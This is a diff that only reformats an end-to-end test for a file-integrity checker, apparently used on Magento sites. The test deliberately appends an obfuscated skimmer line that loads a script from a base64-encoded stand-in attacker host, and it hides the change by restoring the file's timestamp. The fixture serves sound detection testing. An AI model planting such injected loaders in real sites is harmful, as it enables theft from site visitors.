@@ -6,7 +6,17 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawnSync, execFileSync } from 'node:child_process';
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, appendFileSync } from 'node:fs';
+import {
+  cpSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+  appendFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 
@@ -23,7 +33,11 @@ function ripcord(cwd: string, args: string[]): { code: number; stdout: string; s
   return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
 }
 
-const lines = (s: string) => s.split('\n').filter((l) => l.trim() !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
+const lines = (s: string) =>
+  s
+    .split('\n')
+    .filter((l) => l.trim() !== '')
+    .map((l) => JSON.parse(l) as Record<string, unknown>);
 
 test('inject a skimmer, check finds it, revert restores it, check is clean', () => {
   const dir = mkdtempSync(join(tmpdir(), 'ripcord-e2e-int-'));
@@ -47,7 +61,10 @@ test('inject a skimmer, check finds it, revert restores it, check is clean', () 
     const original = readFileSync(p, 'utf8');
     writeFileSync(join(dir, 'ref'), '');
     execFileSync('touch', ['-r', p, join(dir, 'ref')]);
-    appendFileSync(p, '\n;(function(){var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcw==");document.head.appendChild(s)})();\n');
+    appendFileSync(
+      p,
+      '\n;(function(){var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcw==");document.head.appendChild(s)})();\n',
+    );
     execFileSync('touch', ['-r', join(dir, 'ref'), p]);
     // Cache junk must not count: var/cache is left out by the magento2 preset.
     mkdirSync(join(site, 'var', 'cache'), { recursive: true });
@@ -57,9 +74,15 @@ test('inject a skimmer, check finds it, revert restores it, check is clean', () 
     assert.equal(found.code, 1, found.stderr);
     const recs = lines(found.stdout);
     const changes = recs.filter((r) => r['type'] === 'change');
-    assert.deepEqual(changes.map((c) => [c['path'], c['kinds']]), [[target, ['modified']]]);
+    assert.deepEqual(
+      changes.map((c) => [c['path'], c['kinds']]),
+      [[target, ['modified']]],
+    );
     const findings = changes[0]?.['findings'] as { rule: string }[];
-    assert.ok(findings.some((f) => f.rule === 'js-src-from-base64'), JSON.stringify(findings));
+    assert.ok(
+      findings.some((f) => f.rule === 'js-src-from-base64'),
+      JSON.stringify(findings),
+    );
 
     const diff = ripcord(dir, ['integrity', 'diff', target]);
     assert.equal(diff.code, 1);
